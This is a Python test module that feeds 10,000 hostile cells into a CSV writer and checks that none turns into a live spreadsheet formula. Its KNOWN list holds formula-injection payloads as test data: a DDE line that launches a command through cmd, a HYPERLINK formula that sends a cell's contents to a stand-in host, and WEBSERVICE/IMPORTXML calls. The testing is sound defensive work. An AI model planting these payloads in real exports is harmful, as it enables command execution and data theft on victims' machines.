"""F5: no table that leaves as CSV holds a cell that a spreadsheet would run, whatever text was put into it.

Each hostile cell is a known attack or is grown from pieces: what begins a formula (full-width and small forms too),
separators of other programs, quotation marks, line breaks, spaces and characters that do not show, commands. They go
out with ordinary texts and numbers beside them, and the whole is judged by ``tests/formats/spreadsheet.py``, which
takes the file in with every separator, with and without quotation marks. What went out is also read back: Python's
reader finds every text again, and numbers are still numbers. No XLSX is written, so none is judged.
"""

import csv
import io
import random

from openline.formats import text_from_csv, write_csv
from tests.formats.spreadsheet import is_live, live

ID = "F5"
TITLE = "10,000 hostile cells in tables that leave as CSV: 0 live formulas, every text found again"
COUNT = 10_000
KNOWN = (
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    '=HYPERLINK("http://example.invalid?x="&A1,"open")', "=WEBSERVICE(A1)", "=IMPORTXML(A1,B1)", '"=1+1', "'=1+1", '"";=1',
    ";=1+1", ",=1+1", "|=1+1", "a;=1+1", "a\n=1+1", 'a",=1+1', "a\t@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)",
    "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "\x00=1+1", "%0A=1+1", "-2+3+cmd|' /C calc'!A0", "=", "+", "-", "@", "''=1",
    "DDE;=cmd", "\u2028=1", "\x0b=1", "\ufe661", "=\uff1d", ";;\u3000=1", "-1", "+1", "=-1", "\ud800=1",
)  # fmt: skip
"""Attacks that are written about, and their neighbours."""
PIECES = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207c", ",", ";", "|", "\t", "\r", "\n", '"', "'",
          " ", "\u00a0", "\u200b", "\ufeff", "\x00", "\u2028", "\u2019", "1", "A1", "cmd", "SUM(1)", "Daraa", "\u062f\u0631\u0639\u0627")  # fmt: skip
PLAIN = ("Government of Syria - Syrian insurgents", "Daraa Governorate", "", "2017-07", "no", "\u0434\u0430")


def run(seed: int, count: int) -> tuple[bool, str]:
    """``count`` hostile cells, a hundred to a table, in every column by turns."""
    dice = random.Random(f"f5 {seed}")
    hostile = [KNOWN[n] if n < len(KNOWN) else _grown(dice) for n in range(count)]
    sums = {"live": 0, "lost": 0, "numbers": 0, "threats": sum(map(_threatens, hostile))}
    shown: list[str] = []
    for start in range(0, count, 100):
        rows = [_row(dice, cell) for cell in hostile[start : start + 100]]
        data = b"".join(write_csv(["one", "two", "=three", "four"], rows))
        found = live(data)
        sums["live"] += len(found)
        shown += [ascii(cell) for cell in found[:2]]
        for row, back in zip(rows, _read_back(data), strict=True):
            sums["numbers"] += sum(isinstance(cell, int) for cell in row)
            sums["lost"] += sum(not _same(cell, text) for cell, text in zip(row, back, strict=True))
    figure = (
        f"{count} hostile cells, {sums['threats']} of them live if written as they are: {sums['live']} live formulas over "
        f"8 ways of taking the file in; {sums['lost']} of {4 * count} cells not found again, {sums['numbers']} numbers "
        f"among them; no XLSX is written"
    )
    seen = sums["threats"] * 3 > count and sums["numbers"] > 0
    return seen and not sums["live"] and not sums["lost"], "; ".join([figure, *shown[:3]])


def _grown(dice: random.Random) -> str:
    return "".join(dice.choice(PIECES) for _ in range(dice.randint(1, 8)))


def _threatens(cell: str) -> bool:
    """The attack is there: put into a file as plain text, it would be run."""
    return is_live(cell) or bool(live((",".join(("a", cell, "b")) + "\r\n").encode(errors="replace")))


def _row(dice: random.Random, cell: str) -> list[str | int]:
    row: list[str | int] = [dice.choice(PLAIN), dice.choice(PLAIN), dice.randint(-9, 9)]
    row.insert(dice.randrange(4), cell)
    return row


def _read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))[1:]


def _same(cell: str | int, back: str) -> bool:
    if isinstance(cell, int):
        return back == str(cell)
    return text_from_csv(back) == cell.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
